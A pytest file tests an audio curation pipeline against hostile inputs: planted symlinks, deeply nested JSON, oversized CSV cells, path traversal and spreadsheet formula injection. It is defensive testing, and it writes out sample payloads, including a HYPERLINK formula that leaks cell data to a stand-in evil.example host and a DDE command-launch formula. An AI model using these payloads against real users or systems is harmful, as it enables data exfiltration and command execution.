"""Output folders and input files someone else prepared (issue 21 items 6, 9, 12; issue 19 "ids are checked in
the wrong place"): links planted in an output folder never carry a write out of it; a 100k-deep JSON line and
a huge tags cell are one rejected line or row, not a crashed run; ids that are no text are refused by the
shared crawl-record reader; rejects.csv cells do not run as spreadsheet formulas; the mirror serves no file
outside --audio-dir."""
from __future__ import annotations

import csv
import json
import logging
import os
from pathlib import Path

import pytest

from curation.cli import main as curate_main
from curation.pipeline import CurateOptions, curate
from curation.sources import read_rejects
from manifests import read_manifest
from manifests.atomic import OutsideFolderError
from manifests.crawl_record import read_crawl_records
from manifests.published import PUBLISHED_COLUMNS, parse_tags, read_published_csv
from tests.synth import sine, write

SR = 22050
OPTS = CurateOptions(workers=1, progress=False, figures=False)


def _crawl(tmp_path: Path, extra_lines: tuple[str, ...] = (), title: str = "Rain") -> Path:
    """A crawl folder of two ok sounds (sources "site" and "other") plus ``extra_lines`` in its items.jsonl."""
    raw = tmp_path / "raw" / "spider"
    lines = []
    for k, source in enumerate(("site", "other")):
        write(raw / "files" / f"{k}.wav", sine(SR, 0.3, 400 + 200 * k, 0.5), SR, "PCM_16")
        lines.append(json.dumps({"id": f"{source}:{k}", "source": source, "source_id": str(k), "status": "ok",
                                 "file_path": f"files/{k}.wav", "title": title if k == 0 else "Wind",
                                 "description": "A test sound."}))
    (raw / "items.jsonl").write_text("\n".join([*lines, *extra_lines]) + "\n", encoding="utf-8")
    return raw.parent


def _victim(tmp_path: Path, name: str) -> Path:
    victim = tmp_path / "outside" / name
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_text("precious\n")
    return victim


def test_a_planted_audio_source_folder_link_is_a_rejection_not_a_write_outside(tmp_path):
    raw = _crawl(tmp_path)
    elsewhere = tmp_path / "outside" / "audio"
    elsewhere.mkdir(parents=True)
    out = tmp_path / "out"
    (out / "audio").mkdir(parents=True)
    (out / "audio" / "site").symlink_to(elsewhere, target_is_directory=True)
    rep = curate(out, raw=[raw], options=OPTS)
    assert list(elsewhere.iterdir()) == []
    rejects = {r.id: r for r in read_rejects(rep.rejects)}
    assert rejects["site:0"].reason == "unsafe_path" and "outside" in rejects["site:0"].detail
    assert [r.id for r in read_manifest(rep.manifest)] == ["other:1"]


@pytest.mark.parametrize("planted", ["rejects.csv", ".state/results.jsonl", "stats.md", "wavtext5k.csv"])
def test_a_planted_file_link_is_refused_in_one_line_and_its_target_untouched(tmp_path, capsys, planted):
    raw = _crawl(tmp_path)
    victim = _victim(tmp_path, "victim.txt")
    out = tmp_path / "out"
    (out / planted).parent.mkdir(parents=True, exist_ok=True)
    (out / planted).symlink_to(victim)
    assert curate_main(["run", "--raw", str(raw), "--out", str(out), "--workers", "1", "--quiet",
                        "--no-figures"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "outside" in err and planted.split("/")[-1] in err
    assert victim.read_text() == "precious\n"


def test_planted_figures_folder_and_dangling_links_write_nothing_outside(tmp_path):
    raw = _crawl(tmp_path)
    figs = tmp_path / "outside" / "figs"
    figs.mkdir(parents=True)
    out = tmp_path / "out"
    (out / ".state").mkdir(parents=True)
    (out / "figures").symlink_to(figs, target_is_directory=True)
    with pytest.raises(OutsideFolderError):
        curate(out, raw=[raw], options=CurateOptions(workers=1, progress=False, figures=True))
    assert list(figs.iterdir()) == []
    # a dangling link to a file that does not exist yet is not created through either
    new = tmp_path / "outside" / "created.jsonl"
    (tmp_path / "out2" / ".state").mkdir(parents=True)
    (tmp_path / "out2" / ".state" / "results.jsonl").symlink_to(new)
    with pytest.raises(OutsideFolderError):
        curate(tmp_path / "out2", raw=[raw], options=OPTS)
    assert not new.exists()


def test_crawler_items_log_link_is_refused(tmp_path):
    from crawler.state import CrawlState

    victim = _victim(tmp_path, "victim.jsonl")
    folder = tmp_path / "crawl" / "soundbible"
    folder.mkdir(parents=True)
    (folder / "items.jsonl").symlink_to(victim)
    with pytest.raises(OutsideFolderError):
        CrawlState(folder).open()
    assert victim.read_text() == "precious\n"
    (folder / "items.jsonl").unlink()
    (folder / "items.jsonl").symlink_to(tmp_path / "outside" / "new.jsonl")  # dangling: open(..., "a") created it
    with pytest.raises(OutsideFolderError):
        CrawlState(folder).open()
    assert not (tmp_path / "outside" / "new.jsonl").exists()


def test_a_deep_json_line_and_ids_that_are_no_text_are_one_bad_line_each(tmp_path, caplog):
    from crawler.state import CrawlState

    deep = "[" * 100_000 + "]" * 100_000
    nul = json.dumps({"id": "site:a\u0000b", "status": "ok"})
    surrogate = '{"id": "site:\\ud800", "status": "ok"}'
    raw = _crawl(tmp_path, (deep, nul, surrogate, '{"id": "x:1", "tags": {"a": 1}}'))
    items = raw / "spider" / "items.jsonl"
    errors = {line.line: line.error for line in read_crawl_records(items) if line.record is None}
    assert set(errors) == {3, 4, 5, 6}
    assert "nested too deeply" in errors[3]
    assert all("NUL or a lone surrogate" in errors[n] for n in (4, 5))
    assert "tags is not a list" in errors[6]
    rep = curate(tmp_path / "out", raw=[raw], options=OPTS)
    rejects = {r.id: r for r in read_rejects(rep.rejects)}
    assert {k: r.reason for k, r in rejects.items()} == {f"spider/items.jsonl:{n}": "bad_record" for n in (3, 4, 5, 6)}
    assert rep.n_audios == 2
    with caplog.at_level(logging.WARNING):  # crawl resume: the same reader, the line named, the crawl goes on
        state = CrawlState(raw / "spider").open()
    state.close()
    assert f"{items}:3: not a record: JSON nested too deeply" in caplog.text
    assert set(state.records) == {"site:0", "other:1"}


def _published(tmp_path: Path, tags: str) -> Path:
    path = tmp_path / "pub.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(PUBLISHED_COLUMNS)
        w.writerow(["https://soundbible.com/1-rain.html", "", "Rain", "Rain on a roof", "1.wav", "['rain']"])
        w.writerow(["https://soundbible.com/2-bomb.html", "", "Bomb", "A tags cell", "2.wav", tags])
    return path


def test_a_huge_tags_cell_is_one_rejected_row(tmp_path, capsys):
    bomb = "[" + "-" * 100_000 + "1]"  # ast.literal_eval: MemoryError
    csv_path = _published(tmp_path, bomb)
    assert isinstance(parse_tags(bomb), list)  # never raises, whatever the text
    rejected: list = []
    rows = read_published_csv(csv_path, rejected)
    assert [r.title for r in rows] == ["Rain"]
    assert rejected[0][0] == 3 and "'tags' has 100,003 characters" in rejected[0][1]
    audio = tmp_path / "audio"
    write(audio / "1.wav", sine(SR, 0.3, 500, 0.5), SR, "PCM_16")
    rep = curate(tmp_path / "out", published=[(csv_path, audio)], options=OPTS)
    assert {r.id: r.reason for r in read_rejects(rep.rejects)} == {f"{csv_path}:3": "bad_row"}
    assert rep.n_audios == 1
    assert curate_main(["import-published", str(csv_path), "--out", str(tmp_path / "m.csv")]) == 0
    assert "row 3 left out" in capsys.readouterr().err
    assert [r.id for r in read_manifest(tmp_path / "m.csv")] == ["soundbible:1"]


def test_rejects_csv_cells_do_not_run_as_formulas_and_read_back_exactly(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    dde = "=cmd|' /C calc'!A0"
    lines = (json.dumps({"id": dde, "status": "http_error", "error": "@SUM(1+1)", "title": "t", "description": "x"}),)
    raw = _crawl(tmp_path, lines, title=formula)
    rep = curate(tmp_path / "out", raw=[raw], options=OPTS)
    cells = [c for row in csv.reader(open(rep.rejects, encoding="utf-8")) for c in row]
    assert "'" + dde in cells and not any(c[:1] in ("=", "+", "-", "@") for c in cells)
    got = {r.id: r for r in read_rejects(rep.rejects)}
    assert got[dde].reason == "http_error" and "@SUM(1+1)" in got[dde].detail
    # the manifest is the machine contract training reads: its text stays exactly as curated (README: Security)
    assert formula in {r.title for r in read_manifest(rep.manifest)}


def test_spreadsheet_neutralise_round_trip():
    from manifests.spreadsheet import neutralise, restore

    for value in ("=1+1", "+cmd", "-2", "@SUM(A1)", "\t=x", "'=already", "''+x", "plain", "", "'quoted", "a=b"):
        cell = neutralise(value)
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") and restore(cell) == value


def test_the_mirror_serves_no_file_outside_its_audio_folder(tmp_path):
    from crawler.mirror.audio import AudioProvider
    from crawler.mirror.catalog import Sound

    folder = tmp_path / "audio"
    write(folder / "ok.wav", sine(SR, 0.2, 500, 0.5), SR, "PCM_16")
    secret = write(tmp_path / "secret.wav", sine(SR, 0.2, 700, 0.5), SR, "PCM_16")
    (folder / "link.wav").symlink_to(secret)
    provider = AudioProvider(folder)

    def sound(fname: str) -> Sound:
        return Sound(id="soundbible:1", source="soundbible", source_id="1", title="t", description="d", tags=[],
                     fname=fname, slug="s", author="a", license="l", sample_rate=SR, bit_depth=16, channels=1)

    assert provider.provided_file(sound("ok.wav")) == (folder / "ok.wav").resolve()
    for fname in ("../secret.wav", str(secret), "link.wav"):
        assert provider.provided_file(sound(fname)) is None, fname
    assert os.path.exists(secret)
